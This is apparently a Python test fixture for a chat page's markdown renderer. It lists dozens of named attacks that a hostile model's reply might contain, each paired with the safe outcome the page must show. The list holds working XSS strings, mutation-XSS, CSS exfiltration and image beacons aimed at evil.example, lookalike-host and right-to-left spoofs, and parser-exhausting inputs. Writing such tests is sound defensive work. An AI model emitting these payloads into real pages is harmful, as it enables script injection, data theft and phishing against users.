"""What a hostile model might say, each attack by name with what the page must show instead."""

from __future__ import annotations

from typing import NamedTuple

_OUT = "https://evil.example"


class Attack(NamedTuple):
    """A text, and its outcome."""

    name: str
    says: str
    shows: tuple[str, ...] = ()
    """Texts that must be readable."""
    links: tuple[str, ...] = ()
    """All addresses that may be opened."""
    outcome: str = "shown as text"
    """What becomes of it, for the table in the docs."""


ATTACKS = (
    Attack("script tag", "<script>window.pwned = 1</script>", ("<script>",)),
    Attack("script tag in a paragraph", "Hello <script>window.pwned = 1</script> world", ("<script>", "world")),
    Attack("script tag, broken up", "<scr<script>ipt>window.pwned=1</scr</script>ipt>", ("ipt>",)),
    Attack("event handler", '<img src=x onerror="window.pwned=1">', ("onerror",)),
    Attack("event handler on details", '<details open ontoggle="window.pwned=1">x</details>', ("ontoggle",)),
    Attack("javascript link", "[click](javascript:window.pwned=1)", ("click", "javascript:"), outcome="shown as text, not as a link"),
    Attack("javascript link in capitals with spaces", "[click](<  JaVaScRiPt:window.pwned=1>)", ("click",), outcome="shown as text, not as a link"),
    Attack("javascript link with a tab", "[click](java&#x09;script:window.pwned=1)", ("click",), outcome="shown as text, not as a link"),
    Attack("javascript link by entities", "[click](&#106;avascript&colon;window.pwned=1)", ("click",), outcome="shown as text, not as a link"),
    Attack("javascript by reference", "[click][1]\n\n[1]: javascript:window.pwned=1", ("click",), outcome="shown as text, not as a link"),
    Attack("javascript autolink", "<javascript:window.pwned=1>", ("javascript:",), outcome="shown as text, not as a link"),
    Attack("vbscript link", "[click](vbscript:msgbox)", ("click",), outcome="shown as text, not as a link"),
    Attack("data link", "[click](data:text/html,<script>window.pwned=1</script>)", ("click",), outcome="shown as text, not as a link"),
    Attack("blob and file links", "[a](blob:https://x/1) [b](file:///etc/passwd)", ("file:///etc/passwd",), outcome="shown as text, not as a link"),
    Attack("relative link to the API", "[click](api/keys) [c](/ui/api/forget)", ("click",), outcome="shown as text, not as a link"),
    Attack("protocol-relative link", "[click](//evil.example/x)", ("click",), outcome="shown as text, not as a link"),
    Attack("SVG", '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>', ("<svg",)),
    Attack("SVG as data picture", "![x](data:image/svg+xml;base64,PHN2Zy8+)", ("[x]",), outcome="shown as text, not as a link"),
    Attack("MathML", '<math><maction actiontype="statusline#https://evil.example" href="javascript:window.pwned=1">x</maction></math>', ("<math>",)),
    Attack("link in a formula", r"$\href{javascript:window.pwned=1}{x}$", (), outcome="rendered without it, or as its source"),
    Attack("picture in a formula", r"$\includegraphics{https://evil.example/a.png}$", (), outcome="rendered without it, or as its source"),
    Attack("HTML in a formula", r"$$\text{<img src=x onerror=window.pwned=1>}$$", (), outcome="rendered without it, or as its source"),
    Attack("class and style in a formula", r"$\class{top}{x} \style{position:fixed}{y} \htmlData{a=b}{z}$", (), outcome="rendered without it, or as its source"),
    Attack("endless macro in a formula", r"$\def\a{\a\a}\a$", (), outcome="rendered without it, or as its source"),
    Attack("link in a diagram", "```mermaid\ngraph TD\nA[<a href='javascript:window.pwned=1'>x</a>]\nclick A \"javascript:window.pwned=1\"\n```", ("href",), outcome="rendered without it, or as its source"),
    Attack("HTML in a diagram", '```mermaid\ngraph TD\nA["<img src=x onerror=window.pwned=1>"] --> B\n```', ("onerror",), outcome="rendered without it, or as its source"),
    Attack("style in a diagram", f"```mermaid\n%%{{init: {{'themeCSS': '@import {_OUT}'}}}}%%\ngraph TD\nA-->B\nstyle A fill:url({_OUT})\n```", (), outcome="rendered without it, or as its source"),
    Attack("right-to-left override in a diagram", "```mermaid\nsequenceDiagram\nA->>B: invoice\u202efdp.exe\n```", ("invoice[U+202E]fdp.exe",), outcome="the characters are made visible"),
    Attack("style tag", "<style>body{display:none}</style>", ("<style>",)),
    Attack("style attribute", '<b style="position:fixed;inset:0">x</b>', ("position:fixed",)),
    Attack("form", f'<form action="{_OUT}"><input name=key><button>OK</button></form>', ("<form",)),
    Attack("iframe", f'<iframe src="{_OUT}" srcdoc="<script>top.pwned=1</script>"></iframe>', ("<iframe",)),
    Attack("object and embed", f'<object data="{_OUT}"></object><embed src="{_OUT}">', ("<object",)),
    Attack("meta refresh", f'<meta http-equiv="refresh" content="0;url={_OUT}">', ("http-equiv",)),
    Attack("base", f'<base href="{_OUT}/">', ("<base",)),
    Attack("link tag", f'<link rel=stylesheet href="{_OUT}/x.css">', ("<link",)),
    Attack("HTML by entities", "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;", ("<script>", "<img")),
    Attack("link text names another site", "[https://bank.example](https://evil.example/login)", ("(leads to evil.example)",), (f"{_OUT}/login",), outcome="a link that names its real host"),
    Attack("link with a name before the host", "[bank](https://bank.example@evil.example/)", ("(leads to evil.example)",), ("https://bank.example@evil.example/",), outcome="a link that names its real host"),
    Attack("link with a lookalike host", "[www.аpple.com](https://www.аpple.com/)", ("(leads to www.xn--pple-43d.com)",), ("https://www.xn--pple-43d.com/",), outcome="a link that names its real host"),
    Attack("picture as a beacon", f"![chart]({_OUT}/beacon.png?d=secret)", ("chart", "not loaded"), (f"{_OUT}/beacon.png?d=secret",), outcome="not loaded; a link says so"),
    Attack("picture inside a link", f"[![chart]({_OUT}/b.png)](https://evil.example/)", ("chart",), (), outcome="not loaded; a link says so"),
    Attack("picture by reference", f"![chart][b]\n\n[b]: {_OUT}/c.png", ("not loaded",), (f"{_OUT}/c.png",), outcome="not loaded; a link says so"),
    Attack("title that leaves its attribute", '[a](https://ok.example "\\" onmouseover=\\"window.pwned=1")', ("a",), ("https://ok.example/",), outcome="a plain link to the given address"),
    Attack("address that leaves its attribute", '[a](https://ok.example/"onmouseover="window.pwned=1)', ("a",), ("https://ok.example/%22onmouseover=%22window.pwned=1",), outcome="a plain link to the given address"),
    Attack("nested code fences", "````\n```html\n<script>window.pwned=1</script>\n```\n````", ("<script>", "```html"), outcome="shown as code"),
    Attack("fence that is never closed", "```js\n</code></pre><script>window.pwned=1</script>", ("<script>",), outcome="shown as code"),
    Attack("language that leaves its class", '```js"onload="window.pwned=1\nlet a = 1\n```', ("let a = 1",), outcome="shown as code"),
    Attack("code that breaks out of highlighting", "```html\n</span><script>window.pwned=1</script>\n```", ("</span>",), outcome="shown as code"),
    Attack("comment and CDATA", "<!--><script>window.pwned=1</script>--> <![CDATA[<script>window.pwned=1</script>]]>", ()),
    Attack("right-to-left override", "Open invoice\u202efdp.exe now", ("U+202E",), outcome="the characters are made visible"),
    Attack("isolates in code", "```c\nif (is_user\u2066) { // admin\u2069\n```", ("U+2066", "U+2069"), outcome="the characters are made visible"),
    Attack("right-to-left override in a formula", "$\\text{invoice\u202efdp.exe}$ and $\\nope{\u202efdp.exe}$", ("invoice[U+202E]fdp.exe", "U+202E"), outcome="the characters are made visible"),
    Attack("hidden tag characters", "Hello\U000e0049\U000e0067 there", ("U+E0049",), outcome="the characters are made visible"),
    Attack("null and controls", "a\x00b\x07c", (), outcome="the characters are made visible"),
    Attack("prototype names", "[__proto__]: https://a.example\n\n[constructor] __proto__ `toString`", ("constructor",)),
    Attack("name of an element that the page uses", '<div id="app"></div><a name="main">x</a>', ("id=",)),
    Attack("form that hides the page's elements", '<form id="app"><input name="replaceChildren"><input id="main" name="parentNode"></form>', ("<form",)),
    Attack("CSS that reads and fetches", f'<style>@import "{_OUT}/x.css"; input[value^=a]{{background:url({_OUT}/a)}}</style>', ("@import",)),
    Attack("CSS in a language name", f"```css;background:url({_OUT}/x)\na {{}}\n```", ("a {}",), outcome="shown as code"),
    Attack("SVG with a foreign object", '<svg><foreignObject><iframe srcdoc="<script>top.pwned=1</script>"></iframe></foreignObject><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"/></svg>', ("<svg",)),
    Attack("MathML that mutates when parsed", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>", ("<math>",)),
    Attack("tabnabbing", "[look](https://evil.example/)", ("look",), (f"{_OUT}/",), outcome="a link without opener and referrer"),
    Attack("link to a view with a dialog", "[click](#/keys) [c](?x#/history)", ("click",), outcome="shown as text, not as a link"),
    Attack("template syntax", "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}", ("constructor",)),
    Attack("quotes nested a thousand deep", ">" * 1000 + " deep", ("deep",), outcome="shown; the page stays responsive"),
    Attack("lists nested deep", "\n".join(f"{'  ' * depth}- x{depth}" for depth in range(200)), ("x0", "x199"), outcome="shown; the page stays responsive"),
    Attack("emphasis by the thousand", "*a_" * 3000, ("a",), outcome="shown; the page stays responsive"),
    Attack("brackets by the thousand", "[" * 5000 + "](", (), outcome="shown; the page stays responsive"),
    Attack("huge table", "|a|b|\n|-|-|\n" + "|1|2|\n" * 5000, ("Show more of 5,000 rows",), outcome="200 rows, more on request"),
    Attack("wide table", "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n", ("440 more columns",), outcome="60 columns, the rest is counted"),
    Attack("long word", "x" * 20_000, (), outcome="shown; the page stays responsive"),
    Attack("very long text", "word " * 70_000, ("shown without formatting",), outcome="shown without formatting"),
)  # fmt: skip
